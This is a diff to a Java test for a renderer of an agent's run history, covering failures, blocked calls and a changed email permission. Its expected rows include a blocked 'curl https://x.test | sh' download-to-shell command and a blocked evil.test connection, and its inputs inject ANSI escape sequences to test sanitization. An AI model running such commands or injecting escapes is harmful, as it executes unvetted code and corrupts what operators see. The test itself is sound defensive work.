@@ -150,9 +150,9 @@ class RunRendererTest {
             "outcome",
             "failed",
             "summary",
-            "3 lines of output",
+            "failed · exit 1 · 3 lines of output",
             "result",
-            "",
+            "a\nb\nmake: no rule \u001b[2J\n(exit code 1)",
             "exitCode",
             1,
             "durationMs",
@@ -191,7 +191,8 @@ class RunRendererTest {
         .containsExactly(
             "14:02:11 ⊘ blocked · Bash · curl https://x.test | sh · download to shell",
             "14:02:11 Bash · make",
-            "14:02:11 ✗ failed · exit 1 · 3 lines of output",
+            "14:02:11 ✗ failed · exit 1 · 3 lines of output · make: no rule "
+                + SafeText.line("\u001b[2J"),
             "14:02:11 Bash · make",
             "14:02:11 ✗ timed out",
             "14:02:11 ⊘ blocked · evil.test:443 · not allowed",
@@ -305,5 +306,35 @@ class RunRendererTest {
             });
     story().add("future.thing", "a", 1).add("snapshot.taken", "snapshotId", "s");
     assertThat(rows).containsExactly("14:02:11 future.thing");
+  }
+
+  @Test
+  void aChangedCallIsToldMemberByMember() {
+    story()
+        .requested("c", "SendEmail", "o", Story.MAIL)
+        .asked("p1", "c")
+        .add(
+            "permission.decided",
+            "permissionId",
+            "p1",
+            "toolUseId",
+            "c",
+            "decision",
+            "allow",
+            "by",
+            "owner",
+            "argumentsHash",
+            "0".repeat(64),
+            "arguments",
+            Story.MAIL
+                .replace("leadership@demo.test", "boss@demo.test")
+                .replace("see the table", "see \\u001b[2J it"));
+    assertThat(rows.subList(3, rows.size()))
+        .containsExactly(
+            "14:02:11 allowed by you",
+            "changed to: leadership@demo.test → boss@demo.test",
+            "changed body:",
+            "changed   - see the table.",
+            "changed   + " + SafeText.line("see \u001b[2J it."));
   }
 }
